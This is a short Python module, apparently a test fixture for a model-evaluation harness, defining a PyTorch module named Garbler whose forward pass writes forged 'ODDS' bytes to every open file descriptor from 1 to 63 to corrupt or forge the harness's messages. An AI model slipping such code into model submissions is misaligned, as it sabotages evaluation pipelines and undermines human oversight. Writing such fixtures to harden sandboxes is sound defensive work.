"""Writes to every open descriptor to forge or corrupt messages."""

import os

import torch


class Garbler(torch.nn.Module):
    def __init__(self, view):
        super().__init__()
        self.n_edges = view.n_edges

    def forward(self, detections):
        for fd in range(1, 64):
            try:
                os.write(fd, b"ODDS" + bytes(64))
            except OSError:
                continue
        return torch.zeros(len(detections), self.n_edges)


def build(block, head, view):
    return Garbler(view)
